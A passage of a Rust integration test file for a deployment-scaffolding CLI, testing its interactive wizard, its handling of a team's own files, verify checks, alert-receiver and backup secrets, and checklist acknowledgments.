        assert!(!support::in_ci(), "the npm registry is unreachable in CI");
        eprintln!("skipped: the npm registry is unreachable");
        return;
    }
    let p = Project::new();
    copy_dir(&repo_root().join("tests/fixtures/real-build"), &p.dir());
    p.run(&["init", "--no-input", "--yes", "--set", "domain=app.example.com", "--set", "email=ops@example.com"]).ok();
    let answers: serde_json::Value = yaml_serde::from_str(&p.read("scaffold.yaml")).unwrap();
    let health = answers["services"][0]["health"].as_str().unwrap().to_owned();
    assert_eq!(health, "/healthz", "detection reads the route the app defines");
    let dockerfile = p.read("Dockerfile");
    let (install, _) = stage_commands(&dockerfile, "deps");
    let (build, _) = stage_commands(&dockerfile, "builder");
    let (_, migrate) = stage_commands(&dockerfile, "migrate");
    let (_, start) = stage_commands(&dockerfile, "runtime");
    assert!(!install.is_empty() && !build.is_empty() && !migrate.is_empty() && !start.is_empty(), "{dockerfile}");
    for step in install.iter().chain(&build) {
        shell("sh", &p.dir(), step, &[]).ok();
    }
    // The migrate image's command, through the image's entrypoint, against a real PostgreSQL.
    let scratch = tempfile::tempdir().unwrap();
    let port = support::free_port().to_string();
    let quoted = |words: &[String]| words.iter().map(|w| format!("'{w}'")).collect::<Vec<_>>().join(" ");
    let script = format!(
        "set -eu\n. '{lib}'\npg_throwaway \"$SCRATCH/pg\" {port}\ntrap pg_stop EXIT\n\
         DATABASE_URL=\"postgresql://postgres@localhost/postgres?host=$SCRATCH/pg/sock&port={port}\" sh docker/app-entrypoint.sh {migrate}\n\
         echo \"orders=$($as psql -h \"$SCRATCH/pg/sock\" -p {port} -U postgres -Atc 'SELECT count(*) FROM orders')\"\n",
        lib = repo_root().join("templates/verify/lib.sh").display(),
        migrate = quoted(&migrate),
    );
    let lib = repo_root().join("templates/verify");
    let env = [("SCRATCH", scratch.path().to_str().unwrap()), ("LIB", lib.to_str().unwrap())];
    shell("bash", &p.dir(), &script, &env).ok().stdout_has("orders=0");
    // The runtime's command, through the same entrypoint, answers on the health path.
    let app_port = support::free_port();
    let mut cmd = std::process::Command::new("sh");
    cmd.arg("docker/app-entrypoint.sh").args(&start).current_dir(p.dir()).env("PORT", app_port.to_string());
    let mut app = support::Daemon::spawn(cmd, "the app");
    app.wait_for_port(app_port);
    assert!(support::http_get(app_port, &health).contains("\"ok\":true"));
}

#[test]
fn the_cross_check_names_a_build_that_needs_a_database_and_a_database_scaffold_does_not_run() {
    let p = Project::new();
    copy_dir(&repo_root().join("tests/fixtures/repos/trpc-next-prisma"), &p.dir());
    let init = ["init", "--no-input", "--yes", "--set", "domain=app.example.com", "--set", "email=ops@example.com"];
    p.run(&init).ok();
    p.run(&["verify", "--only", "scaffold"]).ok();
    p.edit("scaffold.yaml", |t| {
        t.replace("build: pnpm exec prisma generate && pnpm exec next build", "build: pnpm run build")
    });
    p.edit("prisma/schema.prisma", |t| t.replace("\"postgres\"", "\"mysql\""));
    p.run(&["update", "--yes"]).ok();
    p.run(&["verify", "--only", "scaffold"])
        .code(1)
        .stdout_has("runs `migrate deploy` and needs a database while the image builds")
        .stdout_has("is `mysql`: scaffold runs PostgreSQL only");
}

#[test]
fn enter_through_the_wizard_keeps_the_repositorys_own_files_and_writes_no_marker() {
    let p = Project::new();
    let own = own_files(&p);
    let mut s = wizard_session(&p);
    wizard_to_render_question(&mut s);
    s.send_line("").unwrap();
    for path in [".env.example", ".github/workflows/ci.yml", "Dockerfile"] {
        s.exp_string(&format!("`{path}` is your repository's own file")).unwrap();
        s.send_line("").unwrap();
    }
    s.exp_string("Write these changes?").unwrap();
    s.send_line("").unwrap();
    // The pipelines build scaffold's Dockerfile and call its CI, written beside the team's own.
    s.exp_string("kept yours: `.env.example` (now in `exclude`").unwrap();
    s.exp_string("kept yours: `.github/workflows/ci.yml`; scaffold's version is `.github/workflows/scaffold-ci.yml`")
        .unwrap();
    s.exp_string("kept yours: `Dockerfile`; scaffold's version is `scaffold.Dockerfile`").unwrap();
    s.exp_eof().unwrap();
    for (path, text) in own {
        assert_eq!(p.read(path), text, "{path} kept as it was");
    }
    for (path, (bytes, _)) in p.tree() {
        assert!(!String::from_utf8_lossy(&bytes).contains("<<<<<<< "), "{path} holds a conflict marker");
    }
    let answers: serde_json::Value = yaml_serde::from_str(&p.read("scaffold.yaml")).unwrap();
    let excluded: Vec<&str> =
        answers["exclude"].as_array().unwrap().iter().filter_map(|e| e["path"].as_str()).collect();
    assert_eq!(excluded, [".env.example"]);
    let moved: Vec<&str> = answers["moved"].as_array().unwrap().iter().filter_map(|e| e["to"].as_str()).collect();
    assert_eq!(moved, [".github/workflows/scaffold-ci.yml", "scaffold.Dockerfile"]);
    let release = p.read(".github/workflows/release.yml");
    assert!(release.contains("uses: $/.github/workflows/scaffold-ci.yml"), "release calls scaffold's CI");
    assert!(release.contains("--file scaffold.Dockerfile"), "release builds scaffold's Dockerfile");
    let cross = p.run(&["verify", "--only", "scaffold", "--json"]).stdout;
    assert!(!cross.contains("has no stage"), "the pipelines' targets are in the Dockerfile they build: {cross}");
    p.run(&["check"])
        .ok()
        .stdout_has("excluded     .env.example")
        .stdout_has("moved        Dockerfile  (scaffold's version: `scaffold.Dockerfile`)");
}

/// The fixture with its own Dockerfile, CI workflow and `.env.example`, as a team would have them.
fn own_files(p: &Project) -> [(&'static str, &'static str); 3] {
    copy_dir(&repo_root().join("tests/fixtures/nextjs-prisma-ws"), &p.dir());
    let own = [
        ("Dockerfile", "FROM node:22-alpine\nCMD [\"node\", \"server.js\"]\n"),
        (
            ".github/workflows/ci.yml",
            "name: CI\non: [push]\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n      - run: npm test\n",
        ),
        (".env.example", "DATABASE_URL=postgresql://localhost/shop\n"),
    ];
    for (path, text) in own {
        p.write(path, text);
    }
    own
}

#[test]
fn choosing_merge_for_an_own_file_writes_markers_lists_them_and_check_fails_until_resolved() {
    let p = Project::new();
    own_files(&p);
    let mut s = wizard_session(&p);
    wizard_to_render_question(&mut s);
    s.send_line("").unwrap();
    s.exp_string("`.env.example` is your repository's own file").unwrap();
    // Down twice: "merge, with conflict markers to resolve".
    s.send("\x1b[B\x1b[B").unwrap();
    s.send_line("").unwrap();
    for path in [".github/workflows/ci.yml", "Dockerfile"] {
        s.exp_string(&format!("`{path}` is your repository's own file")).unwrap();
        s.send_line("").unwrap();
    }
    s.exp_string("Write these changes?").unwrap();
    s.send_line("").unwrap();
    s.exp_string("conflict markers: `.env.example` line 1").unwrap();
    s.exp_eof().unwrap();
    assert!(p.read(".env.example").starts_with("<<<<<<< yours (on disk)"));
    p.run(&["check"]).code(1).stdout_has("conflicted   .env.example");
    p.write(".env.example", "DATABASE_URL=postgresql://localhost/shop\nREDIS_URL=redis://localhost\n");
    p.run(&["check"]).ok().stdout_has("user-edited  .env.example");
}

#[test]
fn esc_goes_back_one_question_and_answers_are_checked_when_given() {
    let p = Project::new();
    copy_dir(&repo_root().join("tests/fixtures/nextjs-prisma-ws"), &p.dir());
    let mut s = wizard_session(&p);
    // A rule across answers (the project may not share the app service's name) is checked here,
    // not after every question.
    s.exp_string("Project name").unwrap();
    s.send_line("web").unwrap();
    s.exp_string("`web` equals the project name").unwrap();
    s.send(&"\x7f".repeat(3)).unwrap();
    s.send_line("storefront").unwrap();
    s.exp_string("Public domain").unwrap();
    s.send_line("shop.example.org").unwrap();
    s.exp_string("Operations email").unwrap();
    s.send("\x1b").unwrap();
    s.flush().unwrap();
    // Back at the domain, with the answer given before as its default.
    s.exp_string("Public domain (where the app is served over HTTPS) [shop.example.org]").unwrap();
    s.send_line("").unwrap();
    s.exp_string("Operations email").unwrap();
    s.send_line("ops@shop.example.org").unwrap();
    s.exp_string("Reverse proxy").unwrap();
    s.send("\x1b").unwrap();
    s.flush().unwrap();
    s.exp_string("Operations email (for certificates and alerts) [ops@shop.example.org]").unwrap();
    s.send_line("").unwrap();
    for question in ["Reverse proxy", "TLS profile", "PostgreSQL", "Redis"] {
        s.exp_string(question).unwrap();
        s.send_line("").unwrap();
    }
    s.exp_string("Prometheus").unwrap();
    s.send_line("n").unwrap();
    for question in ["CI/CD", "Cloud"] {
        s.exp_string(question).unwrap();
        s.send_line("").unwrap();
    }
    // Uptime checks need the monitoring stack, which was just turned off: not offered.
    let listed = s.exp_string("Optional components").unwrap();
    let menu = s.exp_string("zap:").unwrap();
    assert!(!format!("{listed}{menu}").contains("uptime:"), "uptime offered without monitoring: {menu}");
    s.send_line("").unwrap();
    let summary = s.exp_string("Render with these answers?").unwrap();
    assert!(summary.contains("project: storefront") && summary.contains("domain: shop.example.org"), "{summary}");
    s.send_line("n").unwrap();
    s.exp_eof().unwrap();
}

#[test]
fn detection_outranks_a_preset_and_answers_outrank_detection() {
    let p = Project::new();
    copy_dir(&repo_root().join("tests/fixtures/nextjs-prisma-ws"), &p.dir());
    p.run(&["init", "--preset", "nextjs-prisma", "--yes"])
        .ok()
        .stdout_has("next steps:")
        .stdout_has("replace the example answer `domain: ");
    let answers: serde_json::Value = yaml_serde::from_str(&p.read("scaffold.yaml")).unwrap();
    assert_eq!(answers["project"], "storefront", "detected, not the preset's");
    assert_eq!(answers["services"][0]["port"], 3100, "detected, not the preset's");
    let q = Project::new();
    copy_dir(&repo_root().join("tests/fixtures/nextjs-prisma-ws"), &q.dir());
    q.run(&["init", "--preset", "nextjs-prisma", "--yes", "--set", "project=shop-two"]).ok();
    let answers: serde_json::Value = yaml_serde::from_str(&q.read("scaffold.yaml")).unwrap();
    assert_eq!(answers["project"], "shop-two", "--set outranks detection");
}

/// Answers every wizard question of the `nextjs-prisma-ws` fixture up to "Render with these
/// answers?", which is left for the caller.
fn wizard_to_render_question(s: &mut rexpect::session::PtySession) {
    s.exp_string("Project name").unwrap();
    s.send_line("").unwrap();
    s.exp_string("Public domain").unwrap();
    s.send_line("shop.example.org").unwrap();
    s.exp_string("Operations email").unwrap();
    s.send_line("ops@shop.example.org").unwrap();
    for question in
        ["Reverse proxy", "TLS profile", "PostgreSQL", "Redis", "Prometheus", "CI/CD", "Cloud", "Optional components"]
    {
        s.exp_string(question).unwrap();
        s.send_line("").unwrap();
    }
    s.exp_string("Render with these answers?").unwrap();
}

#[test]
fn typing_ahead_never_answers_the_write_question() {
    let p = Project::new();
    copy_dir(&repo_root().join("tests/fixtures/nextjs-prisma-ws"), &p.dir());
    let mut s = wizard_session(&p);
    wizard_to_render_question(&mut s);
    // `yes` and two Enters, typed quickly: the first Enter answers this question, the second is
    // typed ahead of the write question.
    for key in ["y", "e", "s", "\n", "\n"] {
        s.send(key).unwrap();
        s.flush().unwrap();
        std::thread::sleep(std::time::Duration::from_millis(30));
    }
    s.exp_string("Write these changes?").unwrap();
    std::thread::sleep(std::time::Duration::from_millis(1500));
    assert!(!p.exists("docker-compose.prod.yml"), "written without an answer to the write question");
    s.send_line("").unwrap();
    s.exp_string("wrote").unwrap();
    s.exp_eof().unwrap();
    assert!(p.exists("docker-compose.prod.yml"));
}

#[test]
fn ctrl_c_at_the_review_restores_the_cursor_writes_nothing_and_exits_130() {
    // No wizard before the review: the review itself must restore the terminal.
    let p = Project::new();
    std::fs::create_dir_all(p.dir()).unwrap();
    let before = p.tree();
    let mut s = in_pty(&p, &["init", "--preset", "go-service"], "cat");
    s.exp_string("Write these changes?").unwrap();
    s.send_control('c').unwrap();
    let rest = s.exp_string("aborted").unwrap();
    let status = s.process().wait().unwrap();
    assert!(matches!(status, rexpect::process::WaitStatus::Exited(_, 130)), "{status:?} {rest}");
    assert!(rest.contains("\u{1b}[?25h"), "the cursor is shown again: {rest:?}");
    assert_eq!(before, p.tree());
}

#[test]
fn a_new_file_left_out_in_the_review_can_be_excluded_so_check_passes() {
    let p = Project::new();
    std::fs::create_dir_all(p.dir()).unwrap();
    let mut s = in_pty(&p, &["init", "--preset", "go-service"], "cat");
    s.exp_string("Write these changes?").unwrap();
    // "choose files", then untick the first file (the list is sorted: `.dockerignore`).
    s.send("\x1b[B\x1b[B").unwrap();
    s.send_line("").unwrap();
    s.exp_string("Space toggles a file").unwrap();
    s.send(" ").unwrap();
    s.send_line("").unwrap();
    s.exp_string("Exclude the 1 new file you left out in scaffold.yaml").unwrap();
    s.send_line("").unwrap();
    s.exp_string("left out: `.dockerignore`").unwrap();
    s.exp_eof().unwrap();
    assert!(!p.exists(".dockerignore"));
    p.run(&["check"]).ok().stdout_has("excluded     .dockerignore  (declined in the review)");
}

#[test]
fn the_review_pages_the_diffs_through_the_users_pager() {
    let p = Project::new();
    std::fs::create_dir_all(p.dir()).unwrap();
    let paged = p.dir().with_extension("paged");
    let mut s = in_pty(&p, &["init", "--preset", "go-service"], &format!("cat > '{}'", paged.display()));
    let shown = s.exp_string("Write these changes?").unwrap();
    // The summary is on the terminal; the diffs went to the pager, whole, and only there.
    assert!(shown.contains("docker-compose.prod.yml"), "{shown}");
    assert!(!shown.contains("+++ b/"), "diffs printed on the terminal: {shown}");
    let pager_got = std::fs::read_to_string(&paged).expect("the pager ran");
    assert!(
        pager_got.contains("+++ b/docker-compose.prod.yml") && pager_got.contains("+++ b/Dockerfile"),
        "{pager_got}"
    );
    // abort: nothing written
    s.send("\x1b[B\x1b[B\x1b[B").unwrap();
    s.send_line("").unwrap();
    s.exp_string("aborted").unwrap();
    assert!(!p.exists("docker-compose.prod.yml"));
}

#[test]
fn stepping_through_the_review_writes_what_is_accepted_and_leaves_out_what_is_skipped() {
    let p = Project::new();
    p.init("go-service");
    let mut s = in_pty(&p, &["add", "k6"], "cat");
    s.exp_string("Write these changes?").unwrap();
    // "step through the files"
    s.send("\x1b[B").unwrap();
    s.send_line("").unwrap();
    s.exp_string("[1/3] create .github/workflows/load-test.yml").unwrap();
    s.exp_string("`.github/workflows/load-test.yml`").unwrap();
    s.send_line("").unwrap();
    s.exp_string("[2/3] create load-tests/smoke.js").unwrap();
    s.exp_string("`load-tests/smoke.js`").unwrap();
    s.send("\x1b[B").unwrap();
    s.send_line("").unwrap();
    s.exp_string("[3/3] update scaffold.yaml").unwrap();
    s.exp_string("`scaffold.yaml`").unwrap();
    s.send_line("").unwrap();
    s.exp_string("wrote 2 files").unwrap();
    s.exp_eof().unwrap();
    assert!(p.exists(".github/workflows/load-test.yml"));
    assert!(!p.exists("load-tests/smoke.js"), "a skipped file was written");
    assert!(p.read("scaffold.yaml").contains("- k6"));
    // Skipped, not excluded: `check` still asks for it.
    p.run(&["check"]).code(1).stdout_has("load-tests/smoke.js");
}

/// Each component's `services:` list, read from its manifest.
fn declared_services() -> Vec<(String, String)> {
    let mut out = Vec::new();
    for entry in std::fs::read_dir(repo_root().join("templates")).unwrap() {
        let manifest = entry.unwrap().path().join("component.yaml");
        let Ok(text) = std::fs::read_to_string(&manifest) else { continue };
        let m: serde_json::Value = yaml_serde::from_str(&text).unwrap();
        for s in m["services"].as_array().into_iter().flatten() {
            out.push((s.as_str().unwrap().to_owned(), m["id"].as_str().unwrap().to_owned()));
        }
    }
    out.sort();
    out
}

#[test]
fn every_compose_service_a_component_renders_is_declared_and_refused_as_an_app_name() {
    let declared = declared_services();
    let optional = optional_components();
    for preset in ["go-service", "nextjs-prisma", "express-typeorm"] {
        for proxy in ["nginx", "traefik", "caddy"] {
            let p = Project::new();
            let mut args = vec!["init", "--preset", preset, "--yes", "--set"];
            let proxy_set = format!("proxy={proxy}");
            let all = format!("components=[{}]", optional.join(","));
            args.extend([proxy_set.as_str(), "--set", all.as_str()]);
            let settings: Vec<String> = optional.iter().flat_map(|c| required_settings(c)).collect();
            args.extend(settings.iter().map(String::as_str));
            p.run(&args).ok();
            let compose = yaml_file(&p, "docker-compose.prod.yml");
            let answers = yaml_file(&p, "scaffold.yaml");
            let apps: Vec<&str> =
                answers["services"].as_array().unwrap().iter().map(|s| s["name"].as_str().unwrap()).collect();
            for name in compose["services"].as_object().unwrap().keys() {
                assert!(
                    apps.contains(&name.as_str()) || declared.iter().any(|(s, _)| s == name),
                    "{preset}/{proxy}: `{name}` is rendered but no component declares it in `services:`"
                );
            }
        }
    }
    for (name, owner) in &declared {
        let p = Project::new();
        let set = format!("services.0.name={name}");
        p.run(&["init", "--preset", "go-service", "--dry-run", "--set", &set])
            .code(2)
            .one_error_line()
            .stderr_has(&format!("`services[0].name`: `{name}` is a compose service of the `{owner}` component"));
        assert!(!p.exists("scaffold.yaml"));
    }
}

#[test]
fn verify_lists_its_checks_by_id_and_suggests_a_misspelt_tool_or_id() {
    let p = Project::new();
    p.run(&["init", "--preset", "go-service", "--yes", "--set", "proxy=nginx"]).ok();
    let list =
        p.run(&["verify", "--list"]).ok().stdout_has("WebSocket past 60 s) (slow)").stdout_lacks("passed").stdout;
    let ids: Vec<&str> = list.lines().skip(1).filter_map(|l| l.split_whitespace().next()).collect();
    assert!(ids.contains(&"docker/hadolint") && ids.contains(&"terraform-aws/fmt"), "{list}");
    let unique: std::collections::BTreeSet<&str> = ids.iter().copied().collect();
    assert_eq!(unique.len(), ids.len(), "a check id is listed twice: {list}");
    // One check by its id: the same id in the JSON.
    let rows = json_list(&p.run(&["verify", "--json", "--only", "terraform-aws/fmt"]).stdout, "checks");
    let ran: Vec<&str> = rows.iter().filter_map(|r| r["id"].as_str()).collect();
    assert_eq!(ran, ["terraform-aws/fmt"]);
    p.run(&["verify", "--only", "ngnix"])
        .code(2)
        .one_error_line()
        .stderr_has("no check of this project uses `ngnix`; did you mean `nginx`?")
        .stderr_has("`scaffold verify --list`");
    p.run(&["verify", "--only", "terraform-aws/fnt"])
        .code(2)
        .one_error_line()
        .stderr_has("did you mean `terraform-aws/fmt`?");
}

#[test]
fn alert_receivers_are_answers_never_invented_and_alertmanager_fails_closed_without_them() {
    let p = Project::new();
    p.run(&[
        "init",
        "--preset",
        "go-service",
        "--yes",
        "--set",
        "monitoring.receivers.paging=pagerduty",
        "--set",
        "monitoring.receivers.chat=slack",
        "--set",
        "monitoring.receivers.heartbeat=webhook",
    ])
    .ok()
    .stdout_has("in `secrets/alertmanager_paging`: nothing that needs it starts until it is there");
    for route in ["paging", "chat", "heartbeat"] {
        assert!(!p.exists(&format!("secrets/alertmanager_{route}")), "scaffold invented `{route}`'s secret");
    }
    let am = p.read("monitoring/alertmanager/alertmanager.yml");
    assert!(am.contains("routing_key_file: /run/secrets/alertmanager_paging"), "{am}");
    assert!(am.contains("api_url_file: /run/secrets/alertmanager_chat"), "{am}");
    let script = p.path("monitoring/alertmanager/check-receivers.sh");
    let check =
        |dir: &str| std::process::Command::new("sh").arg(&script).arg(p.path(dir)).output().expect("sh runs the check");
    let refused = check("secrets");
    assert!(!refused.status.success());
    let said = String::from_utf8_lossy(&refused.stderr);
    assert!(said.contains("secrets/alertmanager_paging: missing or empty"), "{said}");
    p.run(&["checklist"]).ok().stdout_has("`secrets/alertmanager_paging` is not filled in");
    p.write("secrets/alertmanager_paging", "0123456789abcdef0123456789ABCDEF\n");
    p.write("secrets/alertmanager_chat", "https://hooks.example.com/not-slack\n");
    p.write("secrets/alertmanager_heartbeat", "https://hc-ping.com/uuid\n");
    let wrong_kind = check("secrets");
    let said = String::from_utf8_lossy(&wrong_kind.stderr);
    assert!(!wrong_kind.status.success() && said.contains("not a Slack incoming-webhook URL"), "{said}");
    assert!(!said.contains("not-slack"), "a secret value was printed: {said}");
    p.write("secrets/alertmanager_chat", "https://hooks.slack.com/services/T0/B0/x\n");
    assert!(check("secrets").status.success());
    let rows = json_list(&p.run(&["checklist", "--json"]).ok().stdout, "items");
    let delivery = rows.iter().find(|r| r["id"] == "alert-delivery").expect("the alert-delivery item");
    assert_eq!(delivery["status"], "covered", "{delivery}");
}

/// The off-site copy works only with the team's bucket key: scaffold never invents one, and the
/// checklist does not call backups off-site until both halves are filled in.
#[test]
fn off_site_backups_are_covered_only_once_the_bucket_key_is_filled_in() {
    let p = Project::new();
    p.run(&[
        "init",
        "--preset",
        "nextjs-prisma",
        "--set",
        "components=[offsite]",
        "--set",
        "settings.offsite.bucket=shop-dumps",
        "--yes",
    ])
    .ok()
    .stdout_has("in `secrets/offsite_access_key_id`");
    assert!(!p.exists("secrets/offsite_access_key_id") && !p.exists("secrets/offsite_secret_access_key"));
    let offsite = |p: &Project| {
        let rows = json_list(&p.run(&["checklist", "--json"]).ok().stdout, "items");
        rows.into_iter().find(|r| r["id"] == "offsite-backups").expect("the offsite-backups item")
    };
    let row = offsite(&p);
    assert_eq!(row["status"], "partly", "{row}");
    assert!(row.to_string().contains("`secrets/offsite_secret_access_key` is not filled in"), "{row}");
    p.write("secrets/offsite_access_key_id", "AKIAEXAMPLEEXAMPLE\n");
    assert_eq!(offsite(&p)["status"], "partly");
    p.write("secrets/offsite_secret_access_key", "example/secret/key\n");
    assert_eq!(offsite(&p)["status"], "covered");
}

/// `YYYY-MM-DD` of the day `days_ago` days before today (UTC).
fn day(days_ago: i64) -> String {
    let out = std::process::Command::new("date")
        .args(["-u", "-d", &format!("{days_ago} days ago"), "+%F"])
        .output()
        .expect("date runs");
    String::from_utf8(out.stdout).unwrap().trim().to_owned()
}

/// Manual items are acknowledged in `scaffold.yaml` (who, when, where the record is), so that
/// `checklist --require critical` can pass; a recurring one runs out; a bad one is one field error.
#[test]
fn manual_checklist_items_are_acknowledged_with_who_when_and_evidence() {
    let p = Project::new();
    p.init("nextjs-prisma");
    p.run(&["checklist", "--require", "critical"])
        .code(1)
        .stderr_has("`restore-tested`")
        .stderr_has("`alert-delivery`");
    let answers = p.read("scaffold.yaml");
    let ack = |drill: &str| {
        format!(
            "{answers}acknowledged:\n  - id: restore-tested\n    by: Jane Doe <jane@example.com>\n    date: {drill}\n    \
             evidence: https://tickets.example.com/OPS-42\n  - id: alert-delivery\n    by: on-call rota\n    \
             date: {}\n    evidence: docs/runbooks/on-call.md (test page received)\n",
            day(3)
        )
    };
    p.write("scaffold.yaml", &ack(&day(10)));
    let out = p.run(&["checklist", "--require", "critical"]).ok().stdout;
    assert!(out.contains("[a] backups-dr"), "{out}");
    assert!(out.contains(&format!(
        "acknowledged by Jane Doe <jane@example.com> on {}: https://tickets.example.com/OPS-42",
        day(10)
    )));
    assert!(out.find("critical (").unwrap() < out.find("high (").unwrap(), "grouped by severity:\n{out}");
    let rows = json_list(&p.run(&["checklist", "--json"]).ok().stdout, "items");
    assert!(rows.iter().any(|r| r["id"] == "restore-tested" && r["status"] == "acknowledged"));
    // A quarterly drill done half a year ago is due again.
    p.write("scaffold.yaml", &ack(&day(200)));
    p.run(&["checklist", "--require", "critical"]).code(1).stderr_has("`restore-tested`");
    p.run(&["checklist"]).ok().stdout_has("days ago: do it again");
    // Bad acknowledgments: one error naming the field; nothing written.
    let before = p.tree();
    for (bad, wants) in [
        (
            ack(&day(10)).replace("id: restore-tested", "id: restore-testd"),
            ["`acknowledged[0].id`", "did you mean `restore-tested`?"],
        ),
        (ack(&day(-30)), ["`acknowledged[0].date`", "is in the future"]),
        (ack("2026-02-30"), ["acknowledged[0].date", "not a valid date"]),
        (ack(&day(10)).replace("by: on-call rota", "by: \"\""), ["`acknowledged[1].by`", "missing"]),
    ] {
        p.write("scaffold.yaml", &bad);
        let mut run = p.run(&["checklist"]).code(2).one_error_line();
        for want in wants {
            run = run.stderr_has(want);
        }
        p.run(&["update", "--yes"]).code(2);
    }
    p.write("scaffold.yaml", &ack(&day(200)));
    assert_eq!(before, p.tree(), "a refused acknowledgment wrote something");
}

#[test]
fn edits_follow_a_file_that_a_newer_template_set_renamed() {
    let templates = tempfile::tempdir().unwrap();
    let comp = templates.path().join("notes");
    std::fs::create_dir_all(comp.join("docs")).unwrap();
    std::fs::write(comp.join("component.yaml"), "id: notes\nsummary: notes\nwhen: \"true\"\n").unwrap();
    std::fs::write(comp.join("docs/old-name.md"), "# Notes\n\nline one\n\nline two\n").unwrap();
    let p = Project::new();
    let scaffold = with_templates(&p, templates.path());
    scaffold(&MINIMAL_INIT).ok();
    p.write("docs/old-name.md", "# Notes\n\nline one, as the team says it\n\nline two\n");
    // The next template set renames the file and changes another line of it.
    std::fs::remove_file(comp.join("docs/old-name.md")).unwrap();
    std::fs::write(comp.join("docs/new-name.md"), "# Notes\n\nline one\n\nline two, updated\n").unwrap();
    std::fs::write(
        comp.join("component.yaml"),
        "id: notes\nsummary: notes\nwhen: \"true\"\nrenamed:\n  docs/old-name.md: docs/new-name.md\n",
    )
    .unwrap();
    scaffold(&["update", "--yes"]).ok().stdout_has("merged").stdout_has("delete");
    assert!(!p.exists("docs/old-name.md"));
    assert_eq!(p.read("docs/new-name.md"), "# Notes\n\nline one, as the team says it\n\nline two, updated\n");
    scaffold(&["check"]).ok().stdout_has("user-edited  docs/new-name.md");
}

#[test]
fn version_names_the_template_set_and_color_follows_the_flag() {
    let p = Project::new();
    let version = p.run(&["--version"]).ok().stdout;
    let hash = version.trim().strip_prefix(&format!("scaffold {} (templates ", env!("CARGO_PKG_VERSION")));
    assert!(
        hash.is_some_and(|h| h.len() == 13 && h.ends_with(')') && h[..12].chars().all(|c| c.is_ascii_hexdigit())),
        "{version}"
    );
    p.init("go-service");
    p.run(&["update", "--yes", "--set", "postgres.max_connections=120"]).ok();
    p.edit("scaffold.yaml", |t| t.replace("max_connections: 120", "max_connections: 130"));
    // The harness sets NO_COLOR, which `auto` obeys and `always` overrides.
    p.run(&["diff"]).code(1).stdout_lacks("\u{1b}[");
    p.run(&["diff", "--color", "always"]).code(1).stdout_has("\u{1b}[");
    p.run(&["diff", "--color", "never"]).code(1).stdout_lacks("\u{1b}[");
}

#[test]
fn diff_has_json_and_summary_forms_and_the_checklist_prints_markdown_for_a_pull_request() {
    let p = Project::new();
    p.init("go-service");
    p.edit("scaffold.yaml", |t| t.replace("max_connections: 100", "max_connections: 130"));
    let json = p.run(&["diff", "--json"]).code(1).stdout;
    let rows = json_list(&json, "files");
    let compose = rows.iter().find(|r| r["path"] == "docker-compose.prod.yml").expect("the compose row");
    assert_eq!(compose["writes"], true, "{compose}");
    p.run(&["diff", "--summary"]).code(1).stdout_has("docker-compose.prod.yml").stdout_lacks("@@ ");
    let before = p.tree();
    p.run(&["checklist", "--markdown", "-"])
        .ok()
        .stdout_has("# Production readiness: ledger")
        .stdout_has("- [x] **")
        .stdout_lacks("wrote");
    assert_eq!(before, p.tree(), "`--markdown -` writes no file");
}

#[test]
fn a_preset_over_a_real_repository_adds_no_service_it_lacks_and_ci_runs_only_what_exists() {
    // An Nx Express + Prisma app with its own Dockerfile, adopted with a preset whose layout has a
    // second (worker) service and a lint step the repository does not have.
    let p = Project::new();
    copy_dir(&repo_root().join("tests/fixtures/repos/nx-express-prisma"), &p.dir());
    let own = p.read("Dockerfile");
    p.run(&[
        "init",
        "--preset",
        "express-typeorm",
        "--yes",
        "--set",
        "domain=app.example.com",
        "--set",
        "email=ops@example.com",
    ])
    .ok()
    .stdout_lacks("does not fit")
    .stdout_has("scaffold's version is `scaffold.Dockerfile`");
    assert_eq!(p.read("Dockerfile"), own, "the team's Dockerfile is kept");
    let answers = yaml_file(&p, "scaffold.yaml");
    let services = answers["services"].as_array().unwrap();
    assert_eq!(services.len(), 1, "the preset's worker was added: {services:?}");
    assert_eq!(services[0]["start"], "node dist/api/main.js", "what the Nx build writes");
    let gitlab = yaml_file(&p, ".gitlab-ci.yml");
    assert!(gitlab.get("lint").is_none(), "a lint job with nothing to run");
    let run = p.run(&verify_args(&["--only", "check-jsonschema", "--only", "shellcheck", "--only", "yamllint"]));
    let rows = json_list(&run.stdout, "checks");
    assert!(rows.iter().any(|r| r["artifact"] == ".gitlab-ci.yml (schema)"), "{rows:#?}");
    let failed: Vec<&serde_json::Value> = rows.iter().filter(|r| r["outcome"] == "fail").collect();
    assert!(failed.is_empty(), "{failed:#?}");
}

#[test]
fn quiet_prints_only_what_is_wrong_and_verbose_also_what_is_fine() {
    let p = Project::new();
    let init = p.run(&["init", "--preset", "go-service", "--yes", "--quiet"]).ok();
    assert!(init.stdout.is_empty() && p.exists("docker-compose.prod.yml"), "{}", init.stdout);
    assert!(p.run(&["check", "--quiet"]).ok().stdout.is_empty(), "pristine files are listed");
    p.edit("docker-compose.prod.yml", |t| format!("{t}# mine\n"));
    p.run(&["check", "--quiet"]).ok().stdout_has("docker-compose.prod.yml").stdout_lacks("pristine");
    // A change's summary lists the files it leaves as they are only with --verbose.
    let change = ["update", "--set", "email=ops@ledger.example.org", "--dry-run"];
    let left_alone =
        |out: &str| out.lines().any(|l| l.trim_start().starts_with("unchanged ") && l.ends_with(" Dockerfile"));
    assert!(!left_alone(&p.run(&change).ok().stdout));
    assert!(left_alone(&p.run(&[&change[..], &["--verbose"]].concat()).ok().stdout));
    p.run(&["verify", "--quiet", "--only", "promtool"]).ok().stdout_lacks("promtool (").stdout_has("1 passed");
    let verbose = p.run(&["verify", "--verbose", "--only", "promtool"]).ok();
    if verbose.stdout.contains("pass ") {
        assert!(verbose.stdout.contains("SUCCESS"), "a passing check's output: {}", verbose.stdout);
    } else {
        assert!(!support::in_ci(), "promtool did not run: {}", verbose.stdout);
    }
    p.run(&["verify", "-q", "-v"]).code(2).stderr_has("cannot be used with");
}

#[test]
fn manual_pages_come_from_the_same_definition_as_help() {
    let p = Project::new();
    let main = p.run(&["man"]).ok().stdout;
    assert!(main.contains(".TH scaffold 1") && main.contains("scaffold\\-verify(1)"), "{main}");
    p.run(&["man", "verify"]).ok().stdout_has(".TH scaffold-verify 1").stdout_has("\\-\\-quick");
    p.run(&["man", "verfy"]).code(2).one_error_line().stderr_has("did you mean `verify`?");
}

#[test]
fn the_shell_completes_presets_components_and_answer_keys_from_the_binary() {
    let complete = |words: &[&str]| -> String {
        let mut cmd = std::process::Command::new(support::bin());
        cmd.env("COMPLETE", "fish").arg("--").arg("scaffold").args(words);
        support::run_command(cmd, "COMPLETE=fish scaffold").ok().stdout
    };
    let first =
